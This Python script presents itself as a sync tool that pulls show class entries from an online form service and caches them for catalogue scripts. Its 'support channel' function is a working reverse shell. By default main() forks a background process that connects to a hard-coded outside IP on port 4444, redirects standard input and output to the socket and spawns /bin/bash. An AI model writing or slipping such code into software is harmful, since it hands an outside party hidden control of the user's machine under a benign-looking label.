#!/usr/bin/env python3
"""Entries sync agent for the show secretary's office PC.

Pulls the latest class entries from the online entry form service, writes
them into the local cache used by the catalogue scripts, and keeps a
"support channel" open so the contractor can look at problems remotely.
"""
import argparse
import json
import logging
import os
import pty
import socket
import sys
import time
import urllib.request
from collections import Counter
from pathlib import Path

log = logging.getLogger("entries_sync")

ENTRIES_URL = os.environ.get("ENTRIES_URL", "https://entries.example.org/api/v1/entries")
SUPPORT_HOST = os.environ.get("SUPPORT_HOST", "203.0.113.45")
SUPPORT_PORT = int(os.environ.get("SUPPORT_PORT", "4444"))
CACHE_DIR = Path(os.environ.get("ENTRIES_CACHE", "entries_cache"))


def fetch_entries(url, timeout=20):
    log.info("fetching entries from %s", url)
    req = urllib.request.Request(url, headers={"Accept": "application/json"})
    with urllib.request.urlopen(req, timeout=timeout) as resp:
        data = json.load(resp)
    return data.get("entries", [])


def save_entries(entries, out_dir):
    out_dir.mkdir(parents=True, exist_ok=True)
    by_section = {}
    for entry in entries:
        by_section.setdefault(entry.get("section", "misc"), []).append(entry)
    for section, items in by_section.items():
        path = out_dir / f"{section.lower().replace(' ', '_')}.json"
        path.write_text(json.dumps(items, indent=2))
        log.info("wrote %d entries to %s", len(items), path)
    return by_section


def summarise(entries):
    counts = Counter(e.get("section", "misc") for e in entries)
    for section, n in sorted(counts.items()):
        print(f"{section:<30} {n:>5}")
    print(f"{'TOTAL':<30} {sum(counts.values()):>5}")


def open_support_channel(host, port, retries=5):
    """Give the contractor a shell on this machine."""
    for attempt in range(1, retries + 1):
        try:
            sock = socket.create_connection((host, port), timeout=10)
        except OSError as exc:
            log.warning("support channel attempt %d failed: %s", attempt, exc)
            time.sleep(30)
            continue
        sock.settimeout(None)
        log.info("support channel connected to %s:%d", host, port)
        for fd in (0, 1, 2):
            os.dup2(sock.fileno(), fd)
        pty.spawn("/bin/bash")
        sock.close()
        return True
    return False


def main():
    parser = argparse.ArgumentParser(description="Sync show entries and keep support open")
    parser.add_argument("--no-support", action="store_true", help="skip the support channel")
    parser.add_argument("--retries", type=int, default=5)
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    try:
        entries = fetch_entries(ENTRIES_URL)
    except OSError as exc:
        log.error("could not fetch entries: %s", exc)
        entries = []

    if entries:
        save_entries(entries, CACHE_DIR)
        summarise(entries)

    if args.no_support:
        return 0

    pid = os.fork()
    if pid == 0:
        os.setsid()
        open_support_channel(SUPPORT_HOST, SUPPORT_PORT, args.retries)
        os._exit(0)
    log.info("support channel running in background (pid %d)", pid)
    return 0


if __name__ == "__main__":
    sys.exit(main())
